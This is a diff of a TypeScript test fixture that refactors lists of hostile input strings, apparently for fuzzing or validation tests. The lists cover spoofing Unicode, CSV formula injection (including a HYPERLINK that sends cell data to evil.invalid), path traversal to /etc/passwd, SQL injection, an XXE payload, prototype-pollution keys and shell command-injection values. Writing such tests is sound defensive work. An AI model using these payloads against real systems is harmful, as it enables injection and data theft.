@@ -9,21 +9,12 @@ export interface HostileText {
 const codes = (from: number, to: number) =>
   Array.from({ length: to - from + 1 }, (_, at) => String.fromCodePoint(from + at))
 
+const words = (text: string) => text.trim().split(/\s+/)
+
 const turning = [...codes(0x202a, 0x202e), ...codes(0x2066, 0x2069), '\u200E', '\u200F', '\u061C']
-const unseen = [
-  '\u200B',
-  '\u200C',
-  '\u200D',
-  '\u2060',
-  '\uFEFF',
-  '\u00AD',
-  '\u034F',
-  '\u180E',
-  '\u2028',
-  '\u2029',
-  '\u3164',
-  '\u{E0041}',
-]
+const unseen = '\u200B \u200C \u200D \u2060 \uFEFF \u00AD \u034F \u180E \u2028 \u2029 \u3164 \u{E0041}'.split(
+  ' ',
+)
 
 const unicode = [
   ...turning.map((sign) => `invoice${sign}gpj.exe`),
@@ -112,151 +103,57 @@ const formulas = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', 
   `${sign}cmd|' /C calc'!A0`,
   `${sign}HYPERLINK("https://evil.invalid?"&A1,"open")`,
 ])
-const cells = [
-  'a,b',
-  'a;=1+1',
-  '"',
-  '""',
-  'a"b,"c',
-  'a\r\n=1+1',
-  '"=1+1"',
-  ' =1+1',
-  "'=1+1",
-  '#',
-  'sep=;',
-  'ID;PSCRIPT',
-]
+const cells = [...words(`a,b a;=1+1 " "" a"b,"c "=1+1" '=1+1 # sep=; ID;PSCRIPT`), 'a\r\n=1+1', ' =1+1']
 
 const prototypes = [
-  '__proto__',
-  'constructor',
-  'prototype',
-  'toString',
-  'valueOf',
-  'hasOwnProperty',
-  '__defineGetter__',
-  'isPrototypeOf',
-  'toJSON',
-  'then',
-  'length',
-  'name',
-  'key',
-  'ref',
-  'children',
-  'dangerouslySetInnerHTML',
-  'undefined',
-  'null',
-  'NaN',
-  'true',
-  'Infinity',
-  '-0',
-  '0',
-  '1e309',
+  ...words(`
+    __proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ isPrototypeOf toJSON then
+    length name key ref children dangerouslySetInnerHTML undefined null NaN true Infinity -0 0 1e309
+  `),
   '[object Object]',
 ]
 
 const paths = [
-  '.',
-  '..',
-  '../..',
-  '../../../../etc/passwd',
+  ...words(`
+    . .. ../.. ../../../../etc/passwd /etc/shadow /system/silos a/b a//b / // ~ ~root .htaccess CON NUL.txt aux.
+    %2e%2e%2f %00 % %zz %E0%A4%A ? ?q=1 # #top a?b#c :id * /* a;b=c
+  `),
   '..\\..\\win.ini',
-  '/etc/shadow',
   'C:\\',
-  'CON',
-  'NUL.txt',
-  'a/b',
-  'a//b',
-  '/',
-  '//',
-  '%2e%2e%2f',
-  '%00',
-  '%',
-  '%zz',
-  '%E0%A4%A',
-  '?',
-  '?q=1',
-  '#',
-  '#top',
-  'a?b#c',
-  ':id',
-  '*',
-  '/*',
-  'a;b=c',
-  '~',
-  '~root',
-  '.htaccess',
   'file\u0000.txt',
-  'aux.',
   'trailing ',
   ' leading',
-  '/system/silos',
 ]
 
 const data = [
-  '{}',
-  '[]',
-  '{"a":1}',
-  '{"__proto__":{"hostile":1}}',
-  '[["",""],null]',
-  '"quoted"',
-  "'quoted'",
-  'null,',
-  '}{',
+  ...words(`
+    {} [] {"a":1} {"__proto__":{"hostile":1}} [["",""],null] "quoted" 'quoted' null, }{ $where *)(uid=* %s%s%n%x
+    {0} %1$s
+  `),
   '\\',
   '\\u003cscript\\u003e',
   '\\x3cscript\\x3e',
   "'; DROP TABLE disks;--",
   '" OR 1=1 --',
-  '$where',
-  '*)(uid=*',
   '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
-  '%s%s%n%x',
   '%c red',
-  '{0}',
-  '%1$s',
   "$1 $& $` $'",
 ]
 
+const chained = ['; id', '| id', '|| id', '&& id', '& id', "'; id; '", '"; id; "', '`id`']
+const entered = ['a\nid\n', 'a\r\nid', '\u0003id\n', '\u0015id\n', '\u001B[201~\nid\n']
+const quotes = ["'\\''", "$'\\n'", '\\', 'a\\']
 const shell = [
+  ...words(
+    '$IFS$9id $HOME !! !id --help -rf -oProxyCommand=id =ls ~/x * ? [a-z] {a,b} #comment (id) <(id) a=b',
+  ),
+  ...chained,
+  ...entered,
+  ...quotes,
   '$(touch /tmp/hostile)',
-  '`id`',
-  '; id',
-  '| id',
-  '|| id',
-  '&& id',
-  '& id',
   '> /tmp/hostile',
   '< /etc/passwd',
-  '$IFS$9id',
   '${HOME}',
-  '$HOME',
-  '!!',
-  '!id',
-  "'; id; '",
-  '"; id; "',
-  "'\\''",
-  '--help',
-  '-rf',
-  '-oProxyCommand=id',
-  '=ls',
-  '~/x',
-  '*',
-  '?',
-  '[a-z]',
-  '{a,b}',
-  '#comment',
-  'a\nid\n',
-  'a\r\nid',
-  '\u0003id\n',
-  '\u0015id\n',
-  '\u001B[201~\nid\n',
-  "$'\\n'",
-  '\\',
-  'a\\',
-  '(id)',
-  '<(id)',
-  'a=b',
 ]
 
 const families: Record<string, readonly string[]> = {
